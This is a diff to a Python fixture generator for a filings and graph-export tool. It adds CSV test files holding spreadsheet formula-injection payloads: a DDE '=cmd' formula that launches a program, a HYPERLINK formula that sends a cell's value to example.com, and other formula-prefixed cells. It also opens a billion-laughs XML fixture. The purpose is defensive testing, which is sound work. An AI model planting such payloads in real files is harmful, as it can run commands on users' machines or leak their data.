@@ -167,6 +167,25 @@ write("capital-header-unknown.csv", text([
     "F2,上海市,2022-01-02,杭州市,50",
 ]).encode())
 
+# --- formulas for spreadsheets (CSV injection, OWASP payloads) --------------------------------------------------------
+# Text from filings reaches the diagnostics CSV (raw cells) and the Gephi CSV (ids); a spreadsheet would run these.
+write("formula-cells.csv", text([
+    EN,
+    "F1,=cmd|' /C calc'!A0,广东省深圳市南山区,2023-05-06,@SUM(A1),北京市海淀区,,100",  # 2 formulas in names are only data: used
+    'F2,乙基金,"=HYPERLINK(""http://example.com/?d=""&A1,""x"")",2022-01-02,乙公司,浙江省杭州市,,50',  # 3 -> unknown_place
+    "F3,丙基金,江苏省苏州市,2021-03-04,丙公司,+1,,5",                  # 4 partner place '+1' -> unknown_place
+    "F4,丁基金,江苏省苏州市,2021-03-04,丁公司,-2+3,,5",                # 5 partner place '-2+3' -> unknown_place
+    "F5,戊基金,江苏省苏州市,2021-03-04,戊公司,江苏省南京市,,-3.5",     # 6 negative amount -> bad_amount (raw -3.5 is a number)
+    "F1,=cmd|' /C calc'!A0,广东省深圳市南山区,2023-05-06,@SUM(A1),北京市海淀区,,100",  # 7 row 2 again -> duplicate_pair '@SUM(A1)'
+    "F6,己基金,江苏省苏州市,2021-03-04,己公司,\t=1,,5",                 # 8 partner place tab '=1' -> unknown_place (tab trimmed: raw '=1')
+]).encode())
+write("edgelist-formulas.csv", text([
+    "source,target,weight",
+    "=cmd|' /C calc'!A0,@SUM(A1),2",  # 2 edge between two formula ids
+    "+1,-2+3,1",                      # 3 edge between two more
+    "-3.5,b,1",                       # 4 an id that is a plain negative number, and a plain one
+]).encode())
+
 # --- GEXF ----------------------------------------------------------------------------------------------------------
 GEXF_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
 write("billion-laughs.gexf", (GEXF_HEAD + """<!DOCTYPE gexf [
